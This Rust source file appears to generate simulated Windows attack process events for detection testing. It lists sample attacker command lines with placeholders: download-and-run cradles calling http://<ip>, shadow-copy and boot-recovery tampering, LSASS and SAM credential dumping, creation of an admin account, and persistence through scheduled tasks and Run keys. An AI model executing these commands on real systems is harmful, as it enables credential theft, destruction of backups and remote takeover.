//! What starts when someone has broken in.

use super::{EXPLORER, MICROSOFT, POWERSHELL, Program, SHELL, WORD, program};

pub(in crate::events::windows) static ATTACKS: &[Program] = &[
    program(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        ["PowerShell.EXE", "Windows PowerShell", MICROSOFT],
        WORD,
        false,
        &[
            r"powershell.exe -nop -w hidden -enc <base64>",
            r#"powershell -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://<ip>/<word>.ps1')""#,
        ],
    ),
    program(
        r"C:\Windows\System32\vssadmin.exe",
        [
            "VSSADMIN.EXE",
            "Command Line Interface for Microsoft® Volume Shadow Copy Service",
            MICROSOFT,
        ],
        SHELL,
        true,
        &["vssadmin.exe delete shadows /all /quiet"],
    ),
    program(
        r"C:\Windows\System32\rundll32.exe",
        ["RUNDLL32.EXE", "Windows host process (Rundll32)", MICROSOFT],
        SHELL,
        true,
        &[
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump <n> C:\Windows\Temp\<word>.dmp full",
            r"rundll32.exe C:\Users\Public\<word>.dll,Start",
        ],
    ),
    program(
        r"C:\Windows\System32\certutil.exe",
        ["CertUtil.exe", "CertUtil.exe", MICROSOFT],
        SHELL,
        false,
        &[
            r"certutil.exe -urlcache -split -f http://<ip>/<word>.txt C:\Users\Public\<word>.exe",
            r"certutil -decode C:\Users\Public\<word>.txt C:\Users\Public\<word>.exe",
        ],
    ),
    program(
        r"C:\Windows\System32\regsvr32.exe",
        ["REGSVR32.EXE", "Microsoft(C) Register Server", MICROSOFT],
        WORD,
        false,
        &[r"regsvr32.exe /s /n /u /i:http://<ip>/<word>.sct scrobj.dll"],
    ),
    program(
        r"C:\Windows\System32\mshta.exe",
        ["MSHTA.EXE", "Microsoft (R) HTML Application host", MICROSOFT],
        EXPLORER,
        false,
        &[
            r#""C:\Windows\System32\mshta.exe" http://<ip>/<word>.hta"#,
            r#"mshta vbscript:CreateObject("Wscript.Shell").Run("powershell -c <word>",0)(window.close)"#,
        ],
    ),
    program(
        r"C:\Windows\System32\wbem\WMIC.exe",
        ["wmic.exe", "WMI Commandline Utility", MICROSOFT],
        SHELL,
        false,
        &["wmic shadowcopy delete", r#"wmic /node:<ip> process call create "cmd /c <word>.exe""#],
    ),
    program(
        r"C:\Windows\System32\whoami.exe",
        ["whoami.exe", "whoami - displays logged on user information", MICROSOFT],
        POWERSHELL,
        false,
        &["whoami /all", "whoami /priv"],
    ),
    program(
        r"C:\Windows\System32\net1.exe",
        ["net1.exe", "Net Command", MICROSOFT],
        SHELL,
        false,
        &[
            "net1 user <word> P4ss<n> /add",
            r"net1 localgroup administrators <word> /add",
            r#"net1 group "domain admins" /domain"#,
        ],
    ),
    program(
        r"C:\Windows\System32\nltest.exe",
        ["nltestrk.exe", "Microsoft® Logon Server Test Utility", MICROSOFT],
        SHELL,
        false,
        &["nltest /domain_trusts /all_trusts", "nltest /dclist:<word>"],
    ),
    program(
        r"C:\Windows\System32\bitsadmin.exe",
        ["bitsadmin.exe", "BITS administration utility", MICROSOFT],
        SHELL,
        false,
        &[
            r"bitsadmin /transfer <word> /download /priority high http://<ip>/<word>.exe C:\Users\Public\<word>.exe",
        ],
    ),
    program(
        r"C:\Windows\System32\schtasks.exe",
        ["schtasks.exe", "Task Scheduler Configuration Tool", MICROSOFT],
        POWERSHELL,
        false,
        &[
            r#"schtasks /create /sc minute /mo 5 /tn <word> /tr "powershell -w hidden -enc <base64>" /ru SYSTEM /f"#,
        ],
    ),
    program(
        r"C:\Users\Public\procdump64.exe",
        ["procdump", "Sysinternals process dump utility", "Sysinternals - www.sysinternals.com"],
        SHELL,
        false,
        &[r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\<word>.dmp"],
    ),
    program(
        r"C:\Windows\System32\bcdedit.exe",
        ["bcdedit.exe", "Boot Configuration Data Editor", MICROSOFT],
        SHELL,
        true,
        &["bcdedit /set {default} recoveryenabled no"],
    ),
    program(
        r"C:\Windows\System32\reg.exe",
        ["reg.exe", "Registry Console Tool", MICROSOFT],
        SHELL,
        true,
        &[
            r"reg save HKLM\SAM C:\Users\Public\<word>.hiv",
            r#"reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v <word> /t REG_SZ /d C:\Users\Public\<word>.exe /f"#,
        ],
    ),
];
